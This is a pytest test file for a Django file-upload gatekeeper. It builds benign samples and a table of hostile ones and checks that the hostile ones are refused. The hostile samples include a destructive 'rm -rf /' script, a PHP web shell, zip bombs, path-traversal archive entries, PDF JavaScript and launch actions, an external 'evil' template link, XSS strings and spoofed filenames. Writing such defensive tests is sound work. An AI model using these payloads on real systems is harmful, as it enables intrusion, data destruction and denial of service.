"""Hostile and honest files, made here, at the one door through which files come in."""

from __future__ import annotations

import errno
import io
import os
import resource
import socket
import struct
import tempfile
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import IO

import pypdfium2
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pytest_django import Settings

from shuniu.kernel.files import storage
from shuniu.kernel.files.jobs import clean_up
from shuniu.kernel.files.models import Attachment
from shuniu.kernel.files.receiving import CITIZEN, Limits, attach, attachments_of, receive
from shuniu.kernel.files.refusals import REASONS, Refused

pytestmark = pytest.mark.django_db
AT = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


@pytest.fixture(autouse=True)
def own_folder(settings: Settings, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "store"
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "spool")
    (tmp_path / "spool").mkdir()
    return tmp_path


def stored(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


def take(data: bytes, name: str = "材料", **more: object) -> Attachment:
    return receive(SimpleUploadedFile(name or "x", data), at=AT, **more)  # type: ignore[arg-type]  # keywords pass through


def picture(kind: str = "JPEG", size: tuple[int, int] = (80, 40), **more: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **more)
    return out.getvalue()


def pdf(extra: bytes = b"", text: str = "", tail: bytes = b"") -> bytes:
    """A PDF with one page; ``extra`` goes into the catalogue, ``tail`` are further objects."""
    content = f"BT /F1 24 Tf 50 700 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, places = bytearray(b"%PDF-1.5\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += tail
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def office(
    main: str = "word/document.xml", words: str = "请示", more: dict[str, bytes] | None = None, types: str = ""
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", f"<Types>{types}</Types>")
        archive.writestr(main, f'<d xmlns:w="w"><w:p><w:r><w:t>{words}</w:t></w:r></w:p></d>')
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def ofd(words: str = "通知") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", "<OFD/>")
        archive.writestr(
            "Doc_0/Pages/Page_0/Content.xml", f"<Page><TextObject><TextCode>{words}</TextCode></TextObject></Page>"
        )
    return out.getvalue()


def mp3() -> bytes:
    return b"\xff\xfb\x90\x64" + b"\0" * 800


def boxed(brand: bytes) -> bytes:
    return struct.pack("!L", 24) + b"ftyp" + brand + b"\0\0\0\0isommp42" + b"\0" * 200


HONEST = {
    "jpeg": picture(),
    "png": picture("PNG"),
    "webp": picture("WEBP"),
    "gif": picture("GIF"),
    "pdf": pdf(text="Report"),
    "docx": office(),
    "xlsx": office("xl/workbook.xml"),
    "pptx": office("ppt/presentation.xml"),
    "ofd": ofd(),
    "txt": "反映路灯不亮。\n".encode(),
    "mp3": mp3(),
    "m4a": boxed(b"M4A "),
    "mp4": boxed(b"isom"),
    "wav": b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 40,
}


@pytest.mark.parametrize("kind", HONEST)
def test_honest_files_are_taken_whatever_their_name(kind: str) -> None:
    kept = take(HONEST[kind], "现场.bin")
    assert kept.kind == kind
    assert kept.name.startswith("现场.")
    assert kept.has_preview == (kind in {"jpeg", "png", "webp", "gif", "pdf"})
    with storage.store().open(kept.storage_key) as file:
        assert len(file.read()) == kept.size


def test_text_in_gb18030_and_csv() -> None:
    kept = take("姓名,电话\n张三,123\n".encode("gb18030"), "名单.csv")
    assert (kept.kind, kept.encoding) == ("csv", "gb18030")


def lying_bomb() -> bytes:
    """A member whose header declares 100 octets and which holds thirty million."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b"\0" * 30_000_000) + packer.flush()
    data = bytearray(office(more={"word/media/a.bin": b"\0" * 100}))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<d/>")
        info = zipfile.ZipInfo("word/media/a.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, b"\0" * 30_000_000)
    data = bytearray(out.getvalue())
    assert packed in data
    while (place := data.find(struct.pack("<L", 30_000_000))) >= 0:
        data[place : place + 4] = struct.pack("<L", 100)
    return bytes(data)


def nested(depth: int) -> bytes:
    data = office()
    for _ in range(depth):
        data = office(more={"word/embeddings/a.docx": data})
    return data


def encrypted_pdf() -> bytes:
    """Locked by a user password: the keys are nonsense, so nothing opens it."""
    lock = b"<< /Filter /Standard /V 1 /R 2 /O (" + b"a" * 32 + b") /U (" + b"b" * 32 + b") /P -4 >>"
    return pdf().replace(b"trailer << ", b"trailer << /Encrypt " + lock + b" /ID [(1)(1)] ")


def compressed_script() -> bytes:
    packed = zlib.compress(b"9 0 << /S /JavaScript /JS (app.alert(1)) >>")
    return pdf(
        tail=b"8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(packed), packed)
    )


def bomb_picture() -> bytes:
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    return out.getvalue()


REMOTE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/>'
HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "nothing": (lambda: b"", "空.txt", "empty"),
    "program named .jpg": (lambda: b"MZ\x90\0" + b"\0" * 300, "照片.jpg", "executable"),
    "linux program": (lambda: b"\x7fELF" + b"\0" * 300, "a.pdf", "executable"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "a.txt", "executable"),
    "html": (lambda: b"\n<!-- x --><html><script>alert(1)</script>", "a.txt", "web_page"),
    "svg with script": (lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "a.png", "web_page"),
    "bare svg": (lambda: b'<svg onload="alert(1)">', "a.svg", "web_page"),
    "php": (lambda: b"<?php system($_GET[1]);", "a.txt", "web_page"),
    "zip": (lambda: _zip({"a.txt": b"x"}), "a.docx", "archive"),
    "rar": (lambda: b"Rar!\x1a\x07\0" + b"\0" * 50, "a.rar", "archive"),
    "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.doc", "old_office"),
    "heic": (lambda: boxed(b"heic"), "a.heic", "heic"),
    "noise": (lambda: bytes(range(256)) * 10, "a.jpg", "unknown"),
    "macro part": (lambda: office(more={"word/vbaProject.bin": b"x"}), "a.docx", "macros"),
    "macro type": (lambda: office(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "a.docx", "macros"),
    "remote template": (lambda: office(more={"word/_rels/settings.xml.rels": REMOTE}), "a.docx", "active"),
    "entities": (lambda: office(more={"word/a.xml": b'<!DOCTYPE l [<!ENTITY a "b">]><l>&a;</l>'}), "a.docx", "active"),
    "program inside": (lambda: office(more={"word/media/image1.png": b"MZ\x90\0aaaa"}), "a.docx", "executable"),
    "zip bomb by ratio": (lambda: office(more={"word/media/a.bin": b"\0" * 40_000_000}), "a.docx", "bomb"),
    "zip bomb that lies": (lying_bomb, "a.docx", "damaged"),
    "zip bomb by number": (lambda: office(more={f"word/{n}.xml": b"" for n in range(3100)}), "a.docx", "bomb"),
    "zip in zip in zip": (lambda: nested(3), "a.docx", "bomb"),
    "way out": (lambda: office(more={"../../etc/cron.d/x": b"x"}), "a.docx", "damaged"),
    "absolute": (lambda: office(more={"/etc/passwd": b"x"}), "a.docx", "damaged"),
    "zip behind a word": (lambda: b"PK\x03\x04junk" + office(), "a.docx", "damaged"),
    "zip cut short": (lambda: office()[:-40], "a.docx", "damaged"),
    "pdf javascript": (lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "a.pdf", "active"),
    "pdf javascript spelled": (lambda: pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "a.pdf", "active"),
    "pdf javascript compressed": (compressed_script, "a.pdf", "active"),
    "pdf objects unreadable": (lambda: compressed_script().replace(b"x\x9c", b"??"), "a.pdf", "damaged"),
    "pdf of a million beginnings": (lambda: pdf(b"/X (stream\n) /OpenAction << /S /JavaScript >> " + b"stream\n" * 1_000_000), "a.pdf", "active"),
    "pdf that has itself read again": (lambda: pdf(tail=(b"/ObjStm stream\n" + zlib.compress(b"")) * 100_000), "a.pdf", "bomb"),
    "pdf launch": (lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "a.pdf", "active"),
    "pdf locked": (encrypted_pdf, "a.pdf", "encrypted"),
    "pdf in name only": (lambda: b"%PDF-1.4 nothing follows", "a.pdf", "damaged"),
    "picture cut short": (lambda: picture(size=(900, 900))[:900], "a.jpg", "damaged"),
    "10,000 x 10,000": (bomb_picture, "a.png", "pixels"),
}  # fmt: skip


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_in_words_and_nothing_is_kept(name: str, own_folder: Path) -> None:
    make, file_name, code = HOSTILE[name]
    with pytest.raises(Refused) as refusal:
        take(make(), file_name)
    assert refusal.value.code == code
    assert "%(" not in str(refusal.value)
    assert not stored(own_folder)
    assert not Attachment.objects.exists()


def test_every_refusal_has_words() -> None:
    for code in REASONS:
        assert len(str(Refused(code, most=1, kind="x"))) > 8


def test_a_picture_is_drawn_anew_upright_and_says_nothing_of_its_place() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010F] = "Maker"
    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 1.0, 2.0)})
    data = picture("JPEG", (80, 40), exif=exif, comment=b"secret comment") + b"<script>alert(1)</script>PK\x03\x04"
    kept = take(data, "IMG.jpg")
    with storage.store().open(kept.storage_key) as file:
        body = file.read()
    assert b"script" not in body
    assert b"Maker" not in body
    assert b"secret" not in body
    with Image.open(io.BytesIO(body)) as image:
        assert image.size == (40, 80)
        assert not image.getexif()
    assert kept.received_sha256 != kept.sha256


def test_gif_that_is_also_a_script_loses_the_script() -> None:
    data = bytearray(picture("GIF")) + b"/*"
    data += b"*/=1;alert(document.cookie);"
    kept = take(bytes(data), "a.js")
    assert kept.name == "a.gif"
    with storage.store().open(kept.storage_key) as file:
        assert b"alert" not in file.read()


def test_moving_gif_keeps_moving() -> None:
    out = io.BytesIO()
    frames = [Image.new("RGB", (30, 30), colour) for colour in ("red", "green", "blue")]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=80)
    with storage.store().open(take(out.getvalue()).storage_key) as file, Image.open(file) as image:
        assert getattr(image, "n_frames", 1) == 3


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("合同\u202egpj.exe", "合同gpj.jpg"),
        ("..\\..\\windows\\a.jpg", "a.jpg"),
        ("a\x00b\n.JPG", "ab.jpg"),
        ("照片.png", "照片.jpg"),
        ("invoice.pdf.exe", "invoice.jpg"),
        ("   ...", "附件.jpg"),
        ("长" * 400, "长" * 120 + ".jpg"),
        ('a"; filename="b.html', "a_; filename=_b.jpg"),
    ],
)
def test_names_are_cleaned(name: str, expected: str) -> None:
    upload = SimpleUploadedFile("x", picture())
    upload._name = name  # type: ignore[attr-defined]  # Django cleans names itself; an importer's may come unclean
    assert receive(upload, at=AT).name == expected


@pytest.mark.parametrize(
    "data",
    [
        office(words="绝密★10年"),
        office(
            more={"word/header1.xml": b"<d xmlns:w='w'><w:p><w:t>\xe6\x9c\xba\xe5\xaf\x86\xe2\x98\x85</w:t></w:p></d>"}
        ),
        ofd("秘密★1年"),
        "秘密\n关于某事的报告\n".encode("gb18030"),
    ],
)
def test_secrecy_marks_are_refused(data: bytes, own_folder: Path) -> None:
    with pytest.raises(Refused, match="机要") as refusal:
        take(data)
    assert refusal.value.code == "secret"
    assert not stored(own_folder)


def test_a_secrecy_mark_in_the_name_is_refused() -> None:
    with pytest.raises(Refused, match="机要"):
        take(picture(), "机密★关于某事.jpg")


def test_only_the_kinds_asked_for() -> None:
    with pytest.raises(Refused, match="PDF"):
        take(pdf(), "a.pdf", kinds={"jpeg"})


class Stream:
    """An upload of any length that exists nowhere."""

    name: str | None = "影像.mp4"

    def __init__(self, size: int) -> None:
        self.size, self.read = size, 0

    def chunks(self, chunk_size: int | None = None) -> Iterator[bytes]:
        block = boxed(b"isom") + b"\0" * 1_000_000
        while self.read < self.size:
            self.read += len(block)
            yield block


def test_two_gigabytes_are_refused_early_and_without_memory(own_folder: Path) -> None:
    upload = Stream(2_000_000_000)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Refused, match="20 MB"):
        receive(upload, at=AT, limits=CITIZEN)
    assert upload.read < 25_000_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 30_000  # kilobytes
    assert not stored(own_folder)


def test_a_long_recording_is_kept_for_staff() -> None:
    assert receive(Stream(60_000_000), at=AT, limits=Limits()).size > 60_000_000


class Full:
    """A file on a disk that has just become full."""

    def __init__(self, file: IO[bytes]) -> None:
        self.file = file

    def write(self, data: bytes) -> int:
        return _full(data)

    def close(self) -> None:
        self.file.close()


class TestFullDisk:
    def test_while_spooling(self, monkeypatch: pytest.MonkeyPatch, own_folder: Path) -> None:
        made = tempfile.NamedTemporaryFile

        def full(*args: object, **more: object) -> object:
            file = made(*args, **more)  # type: ignore[call-overload]  # as called
            monkeypatch.setattr(file, "write", _full)
            return file

        monkeypatch.setattr(tempfile, "NamedTemporaryFile", full)
        with pytest.raises(Refused, match="存储空间不足"):
            take(picture())
        assert not stored(own_folder)

    def test_while_storing(self, monkeypatch: pytest.MonkeyPatch, own_folder: Path) -> None:
        made = os.fdopen

        def full(*args: object, **more: object) -> object:
            file = made(*args, **more)  # type: ignore[call-overload]  # as called
            file.write(b"half")
            return Full(file)

        monkeypatch.setattr(os, "fdopen", full)
        with pytest.raises(Refused, match="存储空间不足"):
            take(mp3())
        monkeypatch.undo()
        assert not stored(own_folder)
        assert not Attachment.objects.exists()


def _full(*_: object) -> int:
    raise OSError(errno.ENOSPC, "No space left on device")


class TestStorage:
    def test_the_same_file_lies_there_once(self, own_folder: Path) -> None:
        first, second = take(mp3(), "a.mp3"), take(mp3(), "b.mp3")
        assert first.storage_key == second.storage_key
        assert len(stored(own_folder)) == 1

    def test_half_a_file_is_mended(self, own_folder: Path) -> None:
        first = take(mp3())
        Path(storage.store().path(first.storage_key)).write_bytes(b"half")
        second = take(mp3())
        assert Path(storage.store().path(second.storage_key)).read_bytes() == mp3()

    def test_orphans_go_after_a_day(self, own_folder: Path) -> None:
        kept, gone = take(mp3()), take(picture())
        Attachment.objects.filter(pk=gone.pk).delete()
        now = datetime.now(UTC)
        assert clean_up(at=now) == 0
        assert clean_up(at=now + timedelta(days=2)) == 2
        assert storage.store().exists(kept.storage_key)
        assert not storage.store().exists(gone.storage_key)

    def test_attached_once(self) -> None:
        kept = take(mp3())
        assert attach([kept.pk], matter_id=7, role="recording") == 1
        assert attach([kept.pk], matter_id=8) == 0
        assert [one.pk for one in attachments_of(7, roles=["recording"])] == [kept.pk]
        assert attachments_of(7, roles=["other"]) == []


class TestVirusScan:
    @pytest.mark.parametrize(
        ("answer", "verdict"),
        [(b"stream: OK\0", "clean"), (b"stream: Eicar FOUND\0", "virus"), (b"ERROR\0", "unscanned")],
    )
    def test_daemon(self, answer: bytes, verdict: str, settings: Settings) -> None:
        heard: list[int] = []
        with socket.create_server(("127.0.0.1", 0)) as server:
            settings.CLAMD = f"127.0.0.1:{server.getsockname()[1]}"
            thread = threading.Thread(target=_daemon, args=(server, answer, heard))
            thread.start()
            if verdict == "clean":
                assert take(mp3()).verdict == "clean"
            else:
                with pytest.raises(Refused) as refusal:
                    take(mp3())
                assert refusal.value.code == verdict
            thread.join(10)
        assert heard == [len(mp3())]

    def test_silent_daemon_refuses(self, settings: Settings) -> None:
        settings.CLAMD = "127.0.0.1:9"
        with pytest.raises(Refused, match="病毒检查暂时不可用"):
            take(mp3())


def _daemon(server: socket.socket, answer: bytes, heard: list[int]) -> None:
    link, _ = server.accept()
    with link, link.makefile("rb") as file:
        assert file.read(10) == b"zINSTREAM\0"
        count = 0
        while size := struct.unpack("!L", file.read(4))[0]:
            count += len(file.read(size))
        heard.append(count)
        link.sendall(answer)


def test_previews_are_pictures() -> None:
    kept = take(pdf(text="Hello"), "a.pdf")
    with storage.store().open(kept.preview_key) as file, Image.open(file) as image:
        assert max(image.size) == 480
        assert image.format == "JPEG"
    assert pypdfium2.PdfDocument(HONEST["pdf"])[0].get_textpage().get_text_range() == "Report"
